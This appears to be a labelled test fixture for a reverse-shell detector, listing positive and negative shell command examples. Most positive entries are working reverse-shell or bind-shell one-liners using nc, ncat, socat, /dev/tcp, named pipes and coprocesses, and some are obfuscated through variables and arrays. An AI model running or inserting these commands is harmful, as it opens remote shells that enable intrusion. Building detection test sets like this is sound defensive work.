#@ pos nc -e
nc -e /bin/sh 10.0.0.1 4444
#@ pos ncat listening with -e in a cluster
ncat -lvp 4444 -e /bin/bash
#@ pos netcat -c
netcat -c bash 10.0.0.1 4444
#@ pos ncat --sh-exec
ncat --sh-exec 'bash -i' 10.0.0.1 4444
#@ pos nc name in a variable through sudo
n=nc
sudo $n -e sh 10.0.0.1 1
#@ pos socat exec
socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr
#@ pos socat system with quoting
socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:'bash -li'
#@ pos nc piped into a shell
nc 10.0.0.1 4444 | /bin/sh
#@ pos telnet pipeline
telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445
#@ pos named pipe reverse shell
rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
#@ pos bash -i to /dev/tcp
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
#@ pos sh with stdin from /dev/tcp
sh < /dev/tcp/10.0.0.1/4444
#@ pos nc -e as a coprocess
coproc nc -e /bin/bash 10.0.0.1 4444
#@ neg nc checking a port
nc -zv example.com 443
#@ neg nc sending a file
nc example.com 9000 < data.txt
#@ neg nc output to a data tool
nc example.com 7 | grep pong
#@ neg socat between two sockets
socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
#@ neg the command in a string
echo "nc -e /bin/sh host 4444"
#@ pos a shell wired to a coproc running nc
coproc N { nc 203.0.113.5 4444; }
bash -i <&"${N[0]}" >&"${N[1]}" 2>&1
#@ pos a shell reading code from an fd variable
sh <&"$fd"
#@ neg a loop reading from fd 3
while read -r line; do echo "$line"; done <&3
#@ pos a reverse shell whose command line an array holds
cmd=(nc 10.0.0.1 4444 -e /bin/sh)
"${cmd[@]}"
#@ pos a here-string on a descriptor read by bash
exec 3<<<"$step"
bash <&3
#@ pos a here-document on a descriptor read by python3 -
exec 7<<'PY'
print(1)
PY
python3 - <&7
#@ pos sh -s reading descriptor 5
sh -s 0<&5
#@ neg a here-string on a descriptor read by read
exec 3<<<"name=demo"
IFS== read -r key value <&3
#@ neg a script given its stdin from a descriptor
bash ./import.sh <&4
